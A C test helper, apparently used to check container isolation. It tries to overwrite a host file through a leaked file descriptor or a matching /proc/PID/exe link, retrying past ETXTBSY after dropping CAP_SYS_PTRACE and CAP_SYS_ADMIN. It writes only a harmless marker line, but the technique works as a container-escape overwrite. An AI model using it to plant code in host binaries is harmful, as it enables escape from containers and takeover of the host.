// SPDX-License-Identifier: MIT
// Overwrites a file of the host of which it has a handle: attack-overwrite FD
//
// While a process executes that file, the kernel refuses (ETXTBSY), so it continues in the background
// for three seconds. Exit status 0: it has the handle and continues.
//
// attack-overwrite --watch DEVICE INODE: searches for the file with these numbers below the exe of every
// visible process, until it has overwritten it. First it drops CAP_SYS_PTRACE and CAP_SYS_ADMIN, which
// containers of an engine do not have.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int overwrite(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int file = open(path, O_WRONLY);
  if (file < 0) return errno == ETXTBSY ? 1 : -1;
  return write(file, "#!overwritten\n", 14) == 14 ? 0 : -1;
}

static void give_up_rights(void) {
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct sets[2];
  const unsigned given = 1U << CAP_SYS_PTRACE | 1U << CAP_SYS_ADMIN;
  if (syscall(SYS_capget, &header, sets) != 0) exit(3);
  sets[0].effective &= ~given;
  sets[0].permitted &= ~given;
  sets[0].inheritable &= ~given;
  if (syscall(SYS_capset, &header, sets) != 0) exit(3);
}

static void watch(dev_t device, ino_t inode) {
  give_up_rights();
  for (;;) {
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
      int fd = open(path, O_PATH);
      struct stat st;
      if (fd < 0) continue;
      if (fstat(fd, &st) == 0 && st.st_dev == device && st.st_ino == inode) {
        for (int i = 0; i < 3000 && overwrite(fd) > 0; ++i) usleep(1000);
        exit(0);
      }
      close(fd);
    }
    closedir(proc);
  }
}

int main(int argc, char** argv) {
  if (argc == 4 && strcmp(argv[1], "--watch") == 0) {
    watch(strtoul(argv[2], NULL, 10), strtoul(argv[3], NULL, 10));
  }
  if (argc != 2) return 2;
  int fd = atoi(argv[1]);
  if (overwrite(fd) <= 0) return 0;
  if (fork() != 0) return 0;
  setsid();
  for (int i = 0; i < 3000 && overwrite(fd) > 0; ++i) usleep(1000);
  return 0;
}
